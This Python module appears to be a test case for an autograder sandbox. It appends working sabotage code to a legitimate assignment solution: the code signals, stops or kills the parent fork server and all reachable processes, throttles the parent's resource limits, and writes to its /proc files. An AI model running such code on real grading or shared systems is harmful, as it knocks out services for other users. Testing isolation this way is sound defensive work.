from ._snippets import SHA, solution_text

ASSIGNMENT = SHA
TAG = "zygote"
ATTACK = ("breaks the fork server for every later classmate: stops, kills or continues its parent (SIGSTOP, "
          "SIGKILL, kill(-1), pidfd), lowers its open-file limit to 3 and its file-size limit to 0 and its CPU "
          "limit to 1 s, and writes to its /proc files")
CODE = solution_text(ASSIGNMENT) + '''
import ctypes
import os
import resource
import signal

_parent = os.getppid()
_libc = ctypes.CDLL(None, use_errno=True)
_reached = []
for _sig in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, 0):
    for _target in (_parent, -_parent, -1, 1):
        try:
            os.kill(_target, _sig)
            if _sig != 0 or _target not in (0,):
                _reached.append(("kill", _target, int(_sig)))
        except OSError:
            pass
try:
    _fd = os.pidfd_open(_parent)
    _reached.append(("pidfd_open", _parent))
    signal.pidfd_send_signal(_fd, signal.SIGSTOP)
    _reached.append(("pidfd_send_signal", _parent))
except (OSError, AttributeError):
    pass
for _limit, _value in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_CPU, 1)):
    try:
        resource.prlimit(_parent, _limit, (_value, _value))
        _reached.append(("prlimit", _limit))
    except OSError:
        pass
for _path in (f"/proc/{_parent}/oom_score_adj", f"/proc/{_parent}/comm", f"/proc/{_parent}/mem"):
    try:
        with open(_path, "w") as _handle:
            _handle.write("1000")
        _reached.append(("write", _path))
    except OSError:
        pass
if _reached:
    print("ATTNKIT-LEAK reached the fork server:", _reached)
print("fork server attacks done, reached", len(_reached))
'''
TWIN = solution_text(ASSIGNMENT)
EVIDENCE = "fork server attacks done, reached 0"
SAME_SCORE = True
